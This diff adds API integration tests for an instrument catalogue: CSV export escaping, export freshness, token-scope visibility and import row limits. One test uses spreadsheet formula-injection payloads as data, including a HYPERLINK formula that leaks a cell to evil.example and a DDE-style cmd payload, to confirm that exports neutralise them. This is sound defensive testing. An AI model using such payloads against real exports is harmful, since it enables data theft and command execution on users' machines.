@@ -459,3 +459,187 @@ test('search sees catalogue changes made by another process, and not those rolle
   assert.deepEqual(ids(await search(anon, { q: '外部进程', limit: '50' })), [], 'internal now: not public');
   assert.deepEqual(ids(await search(opA, { q: '外部进程', limit: '50' })), [id], 'still for its own institution');
 });
+
+// ---- hostile-client findings (h1 sections 1-4) ----
+
+// Parses CSV text (quoted cells may hold commas, quotes and line breaks) into rows of cells.
+function parseCsv(text) {
+  const rows = [];
+  let r = [], cell = '', q = false;
+  const s = text.replace(/^\uFEFF/, '');
+  for (let i = 0; i < s.length; i++) {
+    const ch = s[i];
+    if (q) {
+      if (ch === '"' && s[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') q = false; else cell += ch;
+    } else if (ch === '"') q = true;
+    else if (ch === ',') { r.push(cell); cell = ''; } else if (ch === '\r') { /* CRLF */ } else if (ch === '\n') { r.push(cell); rows.push(r); r = []; cell = ''; } else cell += ch;
+  }
+  if (cell || r.length) { r.push(cell); rows.push(r); }
+  return rows;
+}
+const csvRecords = (text) => {
+  const [header, ...rows] = parseCsv(text);
+  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
+};
+
+test('CSV exports guard text that a spreadsheet would run as a formula; re-importing the export keeps it', async () => {
+  const evil = {
+    name_zh: '=HYPERLINK("http://evil.example/?x="&A1,"点击")', model: "+1+cmd|'/C calc'!A0",
+    manufacturer: '@SUM(1+1)', asset_no: '-公式-' + Math.random().toString(36).slice(2, 8), name_en: 'Formula guard check',
+  };
+  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, evil));
+  assert.equal(r0.status, 201, JSON.stringify(r0.body));
+  const id = r0.body.id;
+  // The public export, anonymously: the name has the apostrophe, the file round-trips.
+  const pub = await anon.get(`/api/v1/instruments/export.csv?org=${orgA.id}&q=${encodeURIComponent('Formula guard')}`);
+  assert.equal(pub.status, 200);
+  const recs = csvRecords(pub.text);
+  assert.equal(recs.length, 1, pub.text);
+  assert.equal(recs[0].name_zh, "'" + evil.name_zh);
+  assert.equal(recs[0].model, "'" + evil.model);
+  assert.equal(recs[0].manufacturer, "'" + evil.manufacturer);
+  assert.equal(recs[0].asset_no, "'" + evil.asset_no);
+  assert.ok(pub.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`), 'written as Excel reads text');
+  assert.equal(recs[0].original_value_fen, '123456700', 'numbers are not touched');
+  const back = await importCsv(opA, pub.text, 'text/csv; charset=utf-8');
+  assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
+  assert.deepEqual(back.body, { created: 0, updated: 0, unchanged: 1 }, 'the apostrophes come off again');
+  const got = (await get(anon, `/api/v1/instruments/${id}`)).body;
+  assert.equal(got.name_zh, evil.name_zh);
+  assert.equal(got.model, evil.model);
+  assert.equal(got.asset_no, evil.asset_no);
+  // The commission's annual report goes through the same writer.
+  const year = new Date(Date.now() + 8 * 3600e3).getUTCFullYear();
+  const rep = await commission.get(`/api/v1/stats/annual-report?year=${year}&org=${orgA.id}`);
+  assert.equal(rep.status, 200);
+  const line = parseCsv(rep.text).find((r) => r.includes("'" + evil.asset_no));
+  assert.ok(line, 'the instrument is in the annual report');
+  assert.ok(line.includes("'" + evil.name_zh) && !line.includes(evil.name_zh), line.join(' | '));
+});
+
+test('the exports follow every catalogue change: instruments, institution and zone names, other processes', async () => {
+  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { name_zh: '导出缓存校验仪', name_en: 'Export cache check' }));
+  const id = r0.body.id;
+  const json = async () => (await anon.get('/api/v1/instruments/export.json')).body;
+  const csvOf = async (client = anon) => csvRecords((await client.get(`/api/v1/instruments/export.csv?org=${orgA.id}`)).text);
+  let j1 = await json();
+  const j2 = await json();
+  assert.equal(j2.generated_at, j1.generated_at, 'asked again with nothing changed: the same bytes');
+  assert.equal(j1.items.find((i) => i.id === id)?.name_zh, '导出缓存校验仪');
+  assert.ok((await csvOf()).some((x) => x.name_zh === '导出缓存校验仪'));
+  // A change through the API shows in the very next export.
+  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { name_zh: '导出缓存改名仪' })).status, 200);
+  j1 = await json();
+  assert.equal(j1.items.find((i) => i.id === id)?.name_zh, '导出缓存改名仪');
+  assert.equal(j1.count, j1.items.length);
+  let rows = await csvOf();
+  assert.ok(rows.some((x) => x.name_zh === '导出缓存改名仪') && !rows.some((x) => x.name_zh === '导出缓存校验仪'));
+  // Internal now: gone from the public exports at once, still in the institution's own.
+  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { share_mode: 'internal' })).status, 200);
+  assert.ok(!(await json()).items.some((i) => i.id === id));
+  assert.ok(!(await csvOf()).some((x) => x.name_zh === '导出缓存改名仪'));
+  assert.ok((await csvOf(resA)).some((x) => x.name_zh === '导出缓存改名仪'));
+  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { share_mode: 'external' })).status, 200);
+  // The institution's names are in every row: a rename shows too.
+  const org = (await get(anon, `/api/v1/orgs/${orgA.id}`)).body;
+  const renamed = org.name_en + ' (renamed)';
+  const pr = await call(admin, 'PATCH', `/api/v1/orgs/${orgA.id}`, { name_en: renamed });
+  assert.equal(pr.status, 200, JSON.stringify(pr.body));
+  assert.equal((await json()).items.find((i) => i.id === id)?.owner_org_name_en, renamed);
+  assert.equal((await call(admin, 'PATCH', `/api/v1/orgs/${orgA.id}`, { name_en: org.name_en })).status, 200);
+  assert.equal((await json()).items.find((i) => i.id === id)?.owner_org_name_en, org.name_en);
+  // So are its zone's.
+  const zone = (await get(anon, '/api/v1/zones')).body.items.find((z) => z.code === orgA.zone);
+  assert.equal((await call(admin, 'PATCH', `/api/v1/zones/${zone.code}`, { name_en: zone.name_en + ' (renamed)' })).status, 200);
+  assert.equal((await json()).items.find((i) => i.id === id)?.zone_name_en, zone.name_en + ' (renamed)');
+  assert.equal((await call(admin, 'PATCH', `/api/v1/zones/${zone.code}`, { name_en: zone.name_en })).status, 200);
+  assert.equal((await json()).items.find((i) => i.id === id)?.zone_name_en, zone.name_en);
+  // A write by another process shows as well.
+  sqlite(`UPDATE instruments SET name_zh = '旁路改名导出仪' WHERE id = ${id}`);
+  assert.equal((await json()).items.find((i) => i.id === id)?.name_zh, '旁路改名导出仪');
+  rows = await csvOf();
+  assert.ok(rows.some((x) => x.name_zh === '旁路改名导出仪'));
+  // A filter the search refuses is still a 400 naming it.
+  const bad = await call(anon, 'GET', '/api/v1/instruments/export.csv?q=' + encodeURIComponent('a b c d e'));
+  assert.equal(bad.status, 400);
+  assert.equal(bad.body.error.field, 'q');
+  // Many at once (one render, the rest wait for it or reuse it): all complete and agree.
+  sqlite(`UPDATE instruments SET model = 'PAR-1' WHERE id = ${id}`);
+  const many = await Promise.all(Array.from({ length: 12 }, (_, k) => (k % 2 ? anon.get('/api/v1/instruments/export.csv') : anon.get('/api/v1/instruments/export.json'))));
+  assert.ok(many.every((x) => x.status === 200));
+  const texts = new Set(many.filter((_, k) => k % 2).map((x) => x.text));
+  assert.equal(texts.size, 1, 'every CSV answer is the same');
+  assert.ok(many.filter((_, k) => !(k % 2)).every((x) => x.body.items.find((i) => i.id === id)?.model === 'PAR-1'));
+});
+
+test('tokens without the "all" scope read the catalogue as the public does', async () => {
+  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { share_mode: 'internal', name_zh: '令牌不可见仪', name_en: 'Token hidden unit' }));
+  const hidden = r0.body.id;
+  const tokenClient = async (scopes) => {
+    const t = await call(resA, 'POST', '/api/v1/tokens', { name: 'catalogue ' + scopes.join(' '), scopes });
+    assert.equal(t.status, 201, JSON.stringify(t.body));
+    const c = new Client(srv.url);
+    c.bearer = t.body.token;
+    return c;
+  };
+  const narrow = [await tokenClient(['usage:write']), await tokenClient(['stats:read']), await tokenClient(['usage:write', 'stats:read'])];
+  const all = await tokenClient(['all']);
+  const day = (n) => new Date(Date.now() + n * 86400e3).toISOString().slice(0, 10);
+  const week = `from=${day(1)}T00:00:00%2B08:00&to=${day(3)}T00:00:00%2B08:00`;
+  const reads = [
+    [`/api/v1/instruments/${hidden}`, 'the instrument'],
+    [`/api/v1/instruments/${hidden}/availability?${week}`, 'its availability'],
+    [`/api/v1/instruments/${hidden}/blocks`, 'its blocks'],
+  ];
+  for (const c of [anon, ...narrow]) {
+    for (const [path, what] of reads) assert.equal((await get(c, path)).status, 404, `${what} with ${c.bearer ? 'a narrow token' : 'no credentials'}`);
+    assert.equal((await get(c, `/api/v1/instruments/${made.id}`)).status, 200, 'a public instrument');
+    assert.equal((await get(c, `/api/v1/instruments/${made.id}/availability?${week}`)).status, 200);
+    assert.ok(!ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(hidden), 'not in the list');
+    assert.ok(ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(made.id));
+    const avail = await get(c, `/api/v1/availability/search?minutes=60&org=${orgA.id}&class=010401&limit=100`);
+    assert.equal(avail.status, 200, JSON.stringify(avail.body));
+    assert.ok(!avail.body.items.some((x) => x.instrument_id === hidden), 'not in the availability search');
+    const exp = await c.get(`/api/v1/instruments/export.csv?org=${orgA.id}`);
+    assert.equal(exp.status, 200);
+    assert.ok(!exp.text.includes('令牌不可见仪'), 'not in the CSV export');
+  }
+  // The same user with an "all" token (or signed in) sees the institution's own.
+  for (const c of [all, resA]) {
+    for (const [path, what] of reads) assert.equal((await get(c, path)).status, 200, what);
+    assert.ok(ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(hidden));
+    assert.ok((await c.get(`/api/v1/instruments/export.csv?org=${orgA.id}`)).text.includes('令牌不可见仪'));
+  }
+});
+
+// Runs last: it adds 5,000 instruments of institution B.
+test('import: at most 5,000 rows; a file at the limit goes through, one row more is refused', async () => {
+  const HEAD5 = 'asset_no,name_zh,name_en,model,manufacturer,class_code,category_type,share_mode,run_status,original_value_fen,price.unit,price.internal_fen,price.zone_fen';
+  const line = (k) => `CAP-${String(k).padStart(5, '0')},上限导入仪${k},Cap import unit ${k},M-${k},Maker,010501,general,external,normal,5000000,hour,5000,8000`;
+  const file = (n, extra = []) => csv([HEAD5, ...Array.from({ length: n }, (_, k) => line(k)), ...extra]);
+  const before = Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`));
+  let r = await importCsv(opB, file(5001));
+  assert.equal(r.status, 413, JSON.stringify(r.body));
+  assert.equal(r.body.error.code, 'too_many_rows');
+  assert.match(r.body.error.message, /5000/);
+  // Also when the extra rows are only asset numbers (the probe's file): refused before any row is read.
+  r = await importCsv(opB, csv(['asset_no', ...Array.from({ length: 80000 }, (_, k) => k.toString(16))]));
+  assert.equal(r.status, 413);
+  assert.equal(r.body.error.code, 'too_many_rows');
+  // Blank lines are not rows: 4,999 rows, two blank lines and the first row again are 5,000 rows.
+  r = await importCsv(opB, file(4999, ['', '', line(0)]));
+  assert.equal(r.status, 400, 'a repeated asset number, found by the hash set');
+  assert.deepEqual(r.body.rows.map((x) => `${x.row}:${x.field}`), ['5002:asset_no']);
+  assert.equal(Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`)), before, 'nothing written');
+  // The same asset number in two institutions is no repeat: an admin file naming both.
+  r = await importCsv(admin, csv([`owner_org_code,${HEAD5}`, `${orgA.code},${line(1)}`, `${orgB.code},${line(1)}`, `${orgA.code},${line(1)}`]));
+  assert.equal(r.status, 400);
+  assert.deepEqual(r.body.rows.map((x) => `${x.row}:${x.field}`), ['3:asset_no']);
+  // At the limit: every row goes in, and again unchanged (bench/catalogue_io.sh prints the times).
+  r = await importCsv(opB, file(5000));
+  assert.equal(r.status, 200, JSON.stringify(r.body).slice(0, 300));
+  assert.deepEqual(r.body, { created: 5000, updated: 0, unchanged: 0 });
+  r = await importCsv(opB, file(5000));
+  assert.deepEqual(r.body, { created: 0, updated: 0, unchanged: 5000 });
+  assert.equal(Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`)), before + 5000);
+});
